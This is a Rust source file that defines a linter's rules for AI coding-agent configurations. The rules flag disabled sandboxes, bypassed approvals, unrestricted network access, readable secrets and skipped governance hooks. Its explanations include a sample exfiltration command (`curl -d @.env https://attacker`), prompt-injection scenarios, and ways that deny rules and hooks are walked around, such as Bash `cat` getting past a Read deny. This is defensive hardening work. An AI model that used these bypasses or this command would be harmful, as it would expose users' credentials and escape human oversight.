//! Every check the linter runs: id, severity, and the why and fix each finding carries.
//! `docs/lint.md` lists the same table for people; a test keeps the two in step.

use super::finding::{Rule, Severity};

const fn rule(id: &'static str, severity: Severity, runtime: &'static str, title: &'static str, why: &'static str, fix: &'static str) -> Rule {
    Rule { id, severity, runtime, title, why, fix }
}

use Severity::{Error, Note, Warning};

pub const CODEX_FULL_ACCESS_NO_APPROVAL: Rule = rule(
    "codex/full-access-no-approval",
    Error,
    "codex",
    "No sandbox and no approvals",
    "With `sandbox_mode = \"danger-full-access\"` and `approval_policy = \"never\"` every command the model writes runs with your user's full rights and nobody is asked: one prompt injection can delete files, read credentials or push code.",
    "Use `sandbox_mode = \"workspace-write\"` (or a permission profile such as `default_permissions = \":workspace\"`), or keep approvals on with `approval_policy = \"on-request\"`.",
);
pub const CODEX_FULL_ACCESS_SANDBOX: Rule = rule(
    "codex/full-access-sandbox",
    Warning,
    "codex",
    "No sandbox",
    "`danger-full-access` turns the sandbox off: approvals are then the only guard, and an approved command can touch anything your user can.",
    "Prefer `sandbox_mode = \"workspace-write\"` with `writable_roots` for the extra folders a task needs.",
);
pub const CODEX_NETWORK_UNRESTRICTED: Rule = rule(
    "codex/network-unrestricted",
    Warning,
    "codex",
    "Sandboxed commands may reach any host",
    "Network access from the sandbox with no domain allow-list lets an injected command send your code or secrets anywhere (`curl -d @.env https://attacker`).",
    "Leave network off (`network_access = false`, `[permissions.X.network] enabled = false`), or use a permission profile with `mode = \"limited\"` and a `[permissions.X.network.domains]` allow-list (with `features.network_proxy = true`).",
);
pub const CODEX_SECRETS_READABLE: Rule = rule(
    "codex/secrets-readable",
    Warning,
    "codex",
    "Permission profile does not deny secret files",
    "A permission profile's filesystem table without a deny for `.env` files leaves the workspace's secrets readable by every sandboxed command, and from there one network call away.",
    "Add `\"**/.env*\" = \"deny\"` under `[permissions.NAME.filesystem.\":workspace_roots\"]` (and deny other secret files your projects keep).",
);
pub const CODEX_SHELL_ENV_INHERITS_SECRETS: Rule = rule(
    "codex/shell-env-inherits-secrets",
    Error,
    "codex",
    "Every environment variable, secrets included, reaches commands",
    "`shell_environment_policy` with `inherit = \"all\"` and `ignore_default_excludes = true` and no `exclude` passes every variable (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`, ...) to every command the model runs.",
    "Set `inherit = \"core\"` (or `\"none\"` plus `include_only`), or `ignore_default_excludes = false` with `exclude = [\"*KEY*\", \"*SECRET*\", \"*TOKEN*\", \"*PASSWORD*\", \"*CREDENTIAL*\"]`.",
);
pub const CODEX_SHELL_ENV_DEFAULT: Rule = rule(
    "codex/shell-env-unfiltered-by-default",
    Warning,
    "codex",
    "Environment filtering left to Codex's defaults",
    "Without a `[shell_environment_policy]` Codex inherits the whole environment, and recent releases default `ignore_default_excludes` to true, so no `*KEY*`/`*SECRET*`/`*TOKEN*` filter applies: credentials reach every command.",
    "Add `[shell_environment_policy]` with `inherit = \"core\"`, or `ignore_default_excludes = false` and an `exclude` list for credentials.",
);
pub const CODEX_SHELL_ENV_MISSES_CREDENTIALS: Rule = rule(
    "codex/shell-env-misses-credentials",
    Note,
    "codex",
    "Environment filter misses passwords and credential files",
    "Codex's default excludes (`*KEY*`, `*SECRET*`, `*TOKEN*`) do not catch `PGPASSWORD`, `DATABASE_URL` or `GOOGLE_APPLICATION_CREDENTIALS`.",
    "Add `exclude = [\"*PASSWORD*\", \"*CREDENTIAL*\", \"*_URL\"]`, or use `inherit = \"core\"`.",
);
pub const CODEX_MCP_NO_TOOL_ALLOWLIST: Rule = rule(
    "codex/mcp-no-tool-allowlist",
    Warning,
    "codex",
    "MCP server exposes all its tools",
    "An `[mcp_servers.X]` without `enabled_tools` registers every tool the server offers, including ones added in a later server version (delete, admin, send).",
    "List the tools the agent needs: `enabled_tools = [\"get_issue\", \"list_issues\"]` (or set `enabled = false` for servers you do not use).",
);
pub const CODEX_HOOKS_DISABLED: Rule = rule(
    "codex/hooks-disabled",
    Error,
    "codex",
    "Hooks switched off",
    "`[features] hooks = false` (or the old `codex_hooks = false`) stops every hook, so a governance PreToolUse hook never sees a tool call.",
    "Remove the line or set `hooks = true`.",
);
pub const CODEX_NO_PRETOOLUSE_HOOK: Rule = rule(
    "codex/no-pretooluse-hook",
    Warning,
    "codex",
    "No PreToolUse hook",
    "Without a PreToolUse hook nothing judges a tool call before it runs; the sandbox and approvals are all that is left.",
    "Register a governance hook, e.g. `aethelgard install codex`, which writes `hooks.json` and trusts it in config.toml.",
);
pub const CODEX_HOOK_UNTRUSTED: Rule = rule(
    "codex/hook-untrusted",
    Error,
    "codex",
    "Hook not trusted, so Codex skips it",
    "Codex runs a non-managed command hook only after it is trusted (a `[hooks.state.\"<file>:<event>:<group>:<handler>\"] trusted_hash` entry); an untrusted hook is skipped silently and the tool runs.",
    "Trust the hook in the TUI (`/hooks`), or let `aethelgard install codex` write the trust entry.",
);
pub const CODEX_HOOK_TRUST_STALE: Rule = rule(
    "codex/hook-trust-stale",
    Error,
    "codex",
    "Hook changed since it was trusted",
    "The `trusted_hash` no longer matches the hook as written (command, matcher or timeout changed), so Codex treats it as untrusted and skips it silently.",
    "Re-trust the hook in the TUI (`/hooks`) or re-run `aethelgard install codex`.",
);
pub const CODEX_HOOK_MATCHER_MISSES: Rule = rule(
    "codex/hook-matcher-misses-tools",
    Warning,
    "codex",
    "PreToolUse matcher misses tools",
    "A literal matcher matches one tool name exactly and anything else is a regex: tools the matcher misses (`Bash`, `apply_patch`, `mcp__server__tool`) run without the hook.",
    "Use `matcher = \"*\"` (or leave it out) for a governance hook, or a regex such as `^Bash$|^apply_patch$|^mcp__.*`.",
);
pub const CODEX_LOGIN_SHELL: Rule = rule(
    "codex/login-shell",
    Note,
    "codex",
    "Login shells allowed",
    "`allow_login_shell = true` lets commands run under `bash -l`, which sources your profile files: credentials they export bypass `shell_environment_policy`.",
    "Set `allow_login_shell = false` unless a task needs your login environment.",
);
pub const CODEX_TRUSTED_BROAD_PROJECT: Rule = rule(
    "codex/trusted-broad-project",
    Error,
    "codex",
    "Whole disk or home folder trusted as a project",
    "Trusting `/` or your home folder trusts every repository below it: any cloned repo's `.codex/config.toml` (MCP servers, hooks, sandbox settings) and `.codex/rules` then load without review.",
    "Trust individual project folders only: `[projects.\"/home/me/src/app\"] trust_level = \"trusted\"`.",
);
pub const RULES_ALLOW_SHELL: Rule = rule(
    "codex-rules/allow-shell-or-interpreter",
    Error,
    "codex-rules",
    "A rule allows a shell or interpreter",
    "An `allow` rule for `bash`, `python`, `node`, `env`, `sudo` and the like (alone or with `-c`/`-e`) allows any command at all, run outside the sandbox without asking.",
    "Allow the specific commands instead (`[\"npm\", \"test\"]`), or use `decision = \"prompt\"`.",
);
pub const RULES_ALLOW_ESCAPES_SANDBOX: Rule = rule(
    "codex-rules/allow-escapes-sandbox",
    Warning,
    "codex-rules",
    "An allowed command bypasses the sandbox's denies",
    "Commands an `allow` rule matches run outside the sandbox, so permission-profile denies (`**/.env*`, network off) do not apply to them: an allowed `cat`, `cp`, `curl` or `scp` reads or sends what the sandbox would have refused.",
    "Use `decision = \"prompt\"` for commands that read arbitrary files or reach the network, or narrow the pattern to fixed arguments.",
);
pub const RULES_ALLOW_WHOLE_TOOL: Rule = rule(
    "codex-rules/allow-whole-tool",
    Warning,
    "codex-rules",
    "A rule allows every subcommand of a powerful tool",
    "A one-token `allow` pattern such as `[\"git\"]` or `[\"docker\"]` also allows `git push --force`, `docker run --privileged` and every other subcommand, outside the sandbox.",
    "Allow the subcommands the agent needs (`[\"git\", [\"status\", \"diff\", \"log\"]]`) and add `forbidden` rules for the dangerous ones.",
);
pub const RULES_NETWORK_WILDCARD: Rule = rule(
    "codex-rules/network-wildcard-host",
    Error,
    "codex-rules",
    "A network rule with a wildcard host breaks the whole file",
    "Codex rejects a `network_rule` whose host has a wildcard (\"network_rule host must be a specific host; wildcards are not allowed\"), so the file fails to load, and every `forbidden` and `prompt` rule in it goes with it.",
    "Name each host (`network_rule(host = \"api.github.com\", ...)`); check the file with `codex execpolicy check --rules FILE true`.",
);
pub const CLAUDE_BYPASS_PERMISSIONS: Rule = rule(
    "claude/bypass-permissions",
    Error,
    "claude",
    "Permission prompts bypassed",
    "`defaultMode = \"bypassPermissions\"` runs every tool call without asking; only explicit `deny` rules still hold.",
    "Use `\"default\"` or `\"acceptEdits\"`, and set `\"disableBypassPermissionsMode\": \"disable\"` in managed settings.",
);
pub const CLAUDE_NETWORK_UNRESTRICTED: Rule = rule(
    "claude/network-unrestricted",
    Warning,
    "claude",
    "Fetching from any host allowed",
    "Allowing `WebFetch` with no domain, or `curl`/`wget` in Bash, lets the agent send data to, or pull instructions from, any host without a prompt.",
    "Allow named domains only: `WebFetch(domain:docs.rs)`; keep `curl`/`wget` out of `allow`.",
);
pub const CLAUDE_SECRETS_NOT_DENIED: Rule = rule(
    "claude/secrets-not-denied",
    Warning,
    "claude",
    "Secret files not denied",
    "Without `Read` deny rules for `.env` files and credential folders (`~/.ssh`, `~/.aws`), the agent can read keys and tokens, and a prompt injection can make it.",
    "Add to `permissions.deny`: `Read(./.env)`, `Read(./.env.*)`, `Read(~/.ssh/**)`, `Read(~/.aws/**)`.",
);
pub const CLAUDE_MCP_WHOLESALE: Rule = rule(
    "claude/mcp-server-wholesale",
    Warning,
    "claude",
    "Whole MCP server allowed",
    "`mcp__server` (or `mcp__server__*`) in `allow` approves every tool of that server, including ones a later server version adds.",
    "Allow the tools one by one: `mcp__github__get_issue`.",
);
pub const CLAUDE_MCP_ALL_PROJECT: Rule = rule(
    "claude/mcp-all-project-servers",
    Warning,
    "claude",
    "Every project MCP server enabled",
    "`enableAllProjectMcpServers = true` starts every server a repository's `.mcp.json` names, without asking: a cloned repo can add its own.",
    "Remove it and list approved servers in `enabledMcpjsonServers`.",
);
pub const CLAUDE_WILDCARD_ALLOW: Rule = rule(
    "claude/wildcard-allow",
    Error,
    "claude",
    "Wildcard allow",
    "`Bash`, `Bash(*)`, `mcp__*` or `*` in `allow` approves every command or tool of that kind without a prompt.",
    "Allow specific commands (`Bash(npm run test:*)`) and tools (`mcp__github__get_issue`).",
);
pub const CLAUDE_ALLOW_SHELL: Rule = rule(
    "claude/allow-shell-or-interpreter",
    Error,
    "claude",
    "A shell or interpreter is allowed",
    "`Bash(bash:*)`, `Bash(python *)`, `Bash(node:*)` and the like allow any program at all, since the interpreter runs whatever code it is given.",
    "Allow the script you mean (`Bash(python scripts/check.py)`) or leave it to a prompt.",
);
pub const CLAUDE_HOOKS_DISABLED: Rule = rule(
    "claude/hooks-disabled",
    Error,
    "claude",
    "All hooks disabled",
    "`disableAllHooks = true` stops every hook, governance hooks included.",
    "Remove `disableAllHooks`.",
);
pub const CLAUDE_NO_PRETOOLUSE_HOOK: Rule = rule(
    "claude/no-pretooluse-hook",
    Warning,
    "claude",
    "No PreToolUse hook",
    "Without a PreToolUse hook nothing judges a tool call before it runs; allow rules approve it as written.",
    "Register a governance hook, e.g. `aethelgard install claude` (matcher `*`, command `aethelgard hook claude`).",
);
pub const CLAUDE_HOOK_MATCHER_MISSES: Rule = rule(
    "claude/hook-matcher-misses-tools",
    Warning,
    "claude",
    "PreToolUse matcher misses tools",
    "A matcher of plain names matches those names exactly (`mcp__server` alone matches nothing); tools it misses run without the hook.",
    "Use `\"matcher\": \"*\"` for a governance hook, or a regex such as `Bash|Edit|Write|WebFetch|mcp__.*`.",
);
pub const CLAUDE_DENY_BYPASSED_BY_BASH: Rule = rule(
    "claude/deny-bypassed-by-bash",
    Warning,
    "claude",
    "A file deny that Bash walks around",
    "`Read(...)`/`Edit(...)` deny rules govern Claude's file tools, not the programs Bash runs: with Bash allowed broadly (or prompts bypassed), `cat .env` reads what `Read(./.env)` denies.",
    "Deny the Bash forms too (`Bash(cat:*)` is not enough: prefer not allowing broad Bash), or run Claude Code in its sandbox so file denies are enforced by the OS.",
);
pub const CLAUDE_DENY_NEVER_CONSULTED: Rule = rule(
    "claude/deny-rule-never-consulted",
    Warning,
    "claude",
    "A deny rule Claude Code never checks",
    "File access is checked against `Read(...)` and `Edit(...)` rules; `Write(...)` and `Glob(...)` path rules are accepted but not consulted (reported by users, not documented), so the file stays writable.",
    "Write the rule as `Edit(path)` (covers every file-editing tool) or `Read(path)`.",
);
pub const CLAUDE_BROAD_DIRECTORY: Rule = rule(
    "claude/broad-additional-directory",
    Error,
    "claude",
    "Whole disk or home folder added as a working directory",
    "`additionalDirectories` containing `/` or `~` gives the agent's file tools your whole disk or home folder, credentials included.",
    "Add the specific folders a task needs (`../shared-lib`).",
);
pub const CLAUDE_NOT_STRICT_JSON: Rule = rule(
    "claude/not-strict-json",
    Warning,
    "claude",
    "Settings file is not strict JSON",
    "Claude Code reads settings as JSON; comments or trailing commas can make it reject the file (\"Invalid JSON syntax in settings file\"), and then none of its deny rules or hooks apply.",
    "Remove comments and trailing commas (`python3 -m json.tool settings.json` checks it).",
);
pub const OPENCLAW_EXEC_NO_APPROVAL: Rule = rule(
    "openclaw/exec-no-approval",
    Error,
    "openclaw",
    "Host exec with no approvals",
    "`tools.exec.mode = \"full\"` (or `security = \"full\"` with `ask = \"off\"`) while `exec` is available runs every shell command on the host without an allow-list or a prompt.",
    "Use `tools.exec.mode = \"ask\"` or `\"allowlist\"` (or `security = \"allowlist\"`, `ask = \"on-miss\"`), or deny `group:runtime` for agents that do not need a shell.",
);
pub const OPENCLAW_UNRESTRICTED_TOOLS: Rule = rule(
    "openclaw/unrestricted-tools",
    Warning,
    "openclaw",
    "No tool restriction",
    "`tools.profile = \"full\"` or no profile and no allow-list offers the model every tool (exec, browser, message, gateway, nodes, cron) for every task.",
    "Choose the narrowest profile (`minimal`, `messaging`, `coding`) and add tools with `alsoAllow`, per agent where agents differ.",
);
pub const OPENCLAW_WILDCARD_ALLOW: Rule = rule(
    "openclaw/wildcard-allow",
    Error,
    "openclaw",
    "Wildcard allow",
    "`\"*\"` in `tools.allow` or `alsoAllow` allows every tool, plugin tools included, whatever the profile says.",
    "List the tools or groups the agent needs (`group:fs`, `web_search`).",
);
pub const OPENCLAW_MCP_NO_TOOL_FILTER: Rule = rule(
    "openclaw/mcp-no-tool-filter",
    Warning,
    "openclaw",
    "MCP server exposes all its tools",
    "An `mcp.servers.X` without `toolFilter.include` exposes every tool the server offers, including ones it adds later.",
    "Add `toolFilter: { include: [\"search_*\", \"get_page\"] }`.",
);
pub const OPENCLAW_SECRETS_READABLE: Rule = rule(
    "openclaw/secrets-readable",
    Warning,
    "openclaw",
    "File tools reach outside the workspace",
    "With file tools available and `tools.fs.workspaceOnly` not true, `read` reaches `~/.ssh`, `~/.aws` and OpenClaw's own state under `~/.openclaw`.",
    "Set `tools: { fs: { workspaceOnly: true } }`, or deny `group:fs` where files are not needed.",
);
pub const OPENCLAW_NO_GOVERNANCE_PLUGIN: Rule = rule(
    "openclaw/no-governance-plugin",
    Warning,
    "openclaw",
    "No tool-call governance plugin",
    "OpenClaw judges tool calls at run time only through a plugin's `before_tool_call` hook; with none loaded (or plugins disabled) nothing checks a call's arguments.",
    "Load a governance plugin (listed in `plugins.load.paths` or `plugins.entries`, named e.g. `aethelgard`), and keep `plugins.enabled` on.",
);
pub const OPENCLAW_DENY_BYPASSED: Rule = rule(
    "openclaw/deny-bypassed",
    Warning,
    "openclaw",
    "A deny that a sibling tool walks around",
    "`deny: [\"write\"]` does not deny `apply_patch`, and denying `exec` leaves `process` and `code_execution`: the capability the deny meant to remove is still there.",
    "Deny the whole group (`group:fs`, `group:runtime`) or each sibling tool explicitly.",
);
pub const OPENCLAW_ELEVATED_OPEN: Rule = rule(
    "openclaw/elevated-open",
    Error,
    "openclaw",
    "Elevated exec open to any sender",
    "`tools.elevated` runs exec outside the sandbox; an `allowFrom` list containing `*` lets any sender on that channel trigger it.",
    "List the sender ids allowed elevated exec, or set `tools.elevated.enabled = false`.",
);

/// Every rule, in the order the docs list them.
pub const RULES: &[Rule] = &[
    CODEX_FULL_ACCESS_NO_APPROVAL,
    CODEX_FULL_ACCESS_SANDBOX,
    CODEX_NETWORK_UNRESTRICTED,
    CODEX_SECRETS_READABLE,
    CODEX_SHELL_ENV_INHERITS_SECRETS,
    CODEX_SHELL_ENV_DEFAULT,
    CODEX_SHELL_ENV_MISSES_CREDENTIALS,
    CODEX_MCP_NO_TOOL_ALLOWLIST,
    CODEX_HOOKS_DISABLED,
    CODEX_NO_PRETOOLUSE_HOOK,
    CODEX_HOOK_UNTRUSTED,
    CODEX_HOOK_TRUST_STALE,
    CODEX_HOOK_MATCHER_MISSES,
    CODEX_LOGIN_SHELL,
    CODEX_TRUSTED_BROAD_PROJECT,
    RULES_ALLOW_SHELL,
    RULES_ALLOW_ESCAPES_SANDBOX,
    RULES_ALLOW_WHOLE_TOOL,
    RULES_NETWORK_WILDCARD,
    CLAUDE_BYPASS_PERMISSIONS,
    CLAUDE_NETWORK_UNRESTRICTED,
    CLAUDE_SECRETS_NOT_DENIED,
    CLAUDE_MCP_WHOLESALE,
    CLAUDE_MCP_ALL_PROJECT,
    CLAUDE_WILDCARD_ALLOW,
    CLAUDE_ALLOW_SHELL,
    CLAUDE_HOOKS_DISABLED,
    CLAUDE_NO_PRETOOLUSE_HOOK,
    CLAUDE_HOOK_MATCHER_MISSES,
    CLAUDE_DENY_BYPASSED_BY_BASH,
    CLAUDE_DENY_NEVER_CONSULTED,
    CLAUDE_BROAD_DIRECTORY,
    CLAUDE_NOT_STRICT_JSON,
    OPENCLAW_EXEC_NO_APPROVAL,
    OPENCLAW_UNRESTRICTED_TOOLS,
    OPENCLAW_WILDCARD_ALLOW,
    OPENCLAW_MCP_NO_TOOL_FILTER,
    OPENCLAW_SECRETS_READABLE,
    OPENCLAW_NO_GOVERNANCE_PLUGIN,
    OPENCLAW_DENY_BYPASSED,
    OPENCLAW_ELEVATED_OPEN,
];

/// The rule with this id.
pub fn rule_by_id(id: &str) -> Option<&'static Rule> {
    RULES.iter().find(|r| r.id == id)
}
